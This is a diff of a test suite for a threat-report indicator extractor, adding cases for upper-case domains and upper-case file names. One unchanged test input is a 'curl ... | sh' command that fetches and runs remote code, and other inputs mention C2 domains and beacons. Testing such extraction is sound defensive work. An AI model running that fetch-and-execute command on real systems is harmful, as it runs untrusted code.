@@ -67,6 +67,7 @@ describe('extract: texts no one here wrote (reports, mails, PDFs, shell sessions
     ['Polish domains in prose', 'Ofiara trafia na stronę olx-dostawa24.pl albo allegro-lokalnie-platnosc.pl.', ['domain olx-dostawa24.pl', 'domain allegro-lokalnie-platnosc.pl']],
     ['a domain word wins over a file-ish name', 'the C2 domain setup.py resolved to 10.1.2.3', ['domain setup.py', 'ipv4 10.1.2.3']],
     ['a network command takes a host', '$ ping -c1 mirror-update.pl', ['domain mirror-update.pl']],
+    ['an upper-case host of several labels is still a host', 'Beacons went to UPDATE.MIRROR-CHECK.PL at night.', ['domain update.mirror-check.pl']],
     ['curl takes a host too', 'curl -sL update-check.pl/x | sh', ['url http://update-check.pl/x']],
     // CVE and ATT&CK ids as PDFs and word processors write them
     ['CVE with en dashes', 'Citrix Bleed (CVE–2023–4966) leaks tokens', ['cve CVE-2023-4966']],
@@ -114,6 +115,7 @@ describe('extract: texts no one here wrote (reports, mails, PDFs, shell sessions
     ['a code span', 'it drops `beacon.py` next to `notes.md`'],
     ['an underscore in the name', 'statement_nov2022.zip and lh_x86.sh'],
     ['usual file base names', 'Other names: readme.md, setup.py, main.rs, lib.rs, install.sh'],
+    ['upper-case file names in prose', 'SOURCES.md names every file; CONVENTIONS.md summarizes escaping, see NOTES.sh'],
     ['field names', '"dns.question.name": "x", "rule.id": 5, rule.id=7, ${host.name} and the event.id field'],
     ['no at word, prose', 'a dot com company; meet at noon'],
   ];
